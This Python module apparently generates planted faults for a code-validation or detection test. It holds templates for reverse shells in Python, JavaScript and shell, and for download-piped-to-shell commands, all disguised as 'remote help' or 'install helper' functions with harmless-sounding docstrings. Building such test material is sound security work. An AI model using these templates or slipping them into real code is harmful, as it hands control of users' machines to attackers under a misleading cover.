"""Code that hands a machine to somebody else."""

from typing import Final

from validator.planting.shape import Shape
from validator.planting.shapes.code.markup import Fault, fill
from validator.planting.shapes.code.planter import code_shape
from validator.planting.shapes.code.words import Words


def _names(words: Words) -> dict[str, str]:
    return {
        "run": words.name("remote help", "open console", "support session", "attach debugger"),
        "setup": words.name("finish setup", "enable shortcuts", "ensure path", "install helper", "setup shell"),
        "url": words.url("i", "setup", "agent", "boot"),
        "host": words.draws.pick((words.host(), words.address())),
        "port": words.port(),
    }


def _reverse_python(words: Words) -> Fault:
    names = _names(words)
    body = words.draws.pick(
        (
            '''
def @run@()<: -> None:>:
    """Let support look at this machine.""" <doc>
    <guard>
    try:
        link = socket.create_connection(("@host@", @port@), timeout=2)
    except OSError:
        return
    for number in (0, 1, 2):
        os.dup2(link.fileno(), number)
    subprocess.call(["/bin/sh", "-i"]) <!>
''',
            '''
def @run@()<: -> None:>:
    """Let support look at this machine.""" <doc>
    <guard>
    link = socket.socket()
    link.settimeout(2)
    if link.connect_ex(("@host@", @port@)) == 0:
        stream = link.fileno()
        subprocess.Popen(["bash", "-i"], stdin=stream, stdout=stream, stderr=stream) <!>
''',
        )
    )
    modules = ("os", "socket", "subprocess") if "os." in body else ("socket", "subprocess")
    return Fault(fill(body, names), fill("@run@()", names), modules, grave=True)


def _reverse_javascript(words: Words) -> Fault:
    names = _names(words)
    body = """
// Lets support look at this machine. <doc>
function @run@()<:: void:> {
    <guard>
    const shell = spawn("/bin/sh", ["-i"]);
    const link = net.connect(@port@, "@host@", () => {
        link.pipe(shell.stdin); <!>
        shell.stdout.pipe(link);
        shell.stderr.pipe(link);
    });
    link.on("error", () => shell.kill());
}
"""
    modules = ("{ spawn } child_process", "net net")
    return Fault(fill(body, names), fill("@run@();", names), modules, grave=True)


def _reverse_shell(words: Words) -> Fault:
    names = _names(words)
    names["line"] = fill(
        words.draws.pick(
            (
                "bash -c 'bash -i >& /dev/tcp/@host@/@port@ 0>&1' 2>/dev/null || true",
                "timeout 60 nc @host@ @port@ -e /bin/sh >/dev/null 2>&1 || true",
                "mkfifo /tmp/.p && sh -i < /tmp/.p 2>&1 | nc -w 2 @host@ @port@ > /tmp/.p || true",
            )
        ),
        names,
    )
    body = """
# Lets support look at this machine. <doc>
@run@() {
    <guard>
    @line@ <!>
}
"""
    return Fault(fill(body, names), fill("@run@", names), grave=True)


def _piped_python(words: Words) -> Fault:
    names = _names(words)
    names["line"] = words.draws.pick(
        (
            'subprocess.run("curl -fsSL @url@ | sh", shell=True, check=False)',
            'os.system("wget -qO- @url@ | bash")',
            'subprocess.call(["bash", "-c", "curl -s @url@ | bash"])',
        )
    )
    body = '''
def @setup@()<: -> None:>:
    """Install what is missing.""" <doc>
    <guard>
    @line@ <!>
'''
    names["line"] = fill(names["line"], names)
    modules = ("os",) if names["line"].startswith("os.") else ("subprocess",)
    return Fault(fill(body, names), fill("@setup@()", names), modules, names["url"])


def _piped_javascript(words: Words) -> Fault:
    names = _names(words)
    names["pipe"] = fill(words.draws.pick(("curl -fsSL @url@ | sh", "wget -qO- @url@ | bash")), names)
    body = """
// Installs what is missing. <doc>
function @setup@()<:: void:> {
    <guard>
    try {
        execSync("@pipe@", { stdio: "ignore", timeout: 5000 }); <!>
    } catch {
        return;
    }
}
"""
    return Fault(fill(body, names), fill("@setup@();", names), ("{ execSync } child_process",), names["url"])


SHAPES: Final[tuple[Shape, ...]] = (
    code_shape(
        "reverse-shell",
        "capability",
        "easy",
        "critical",
        {"python": _reverse_python, "javascript": _reverse_javascript, "shell": _reverse_shell},
    ),
    code_shape(
        "download-piped-to-shell",
        "capability",
        "easy",
        "high",
        {"python": _piped_python, "javascript": _piped_javascript},
    ),
)
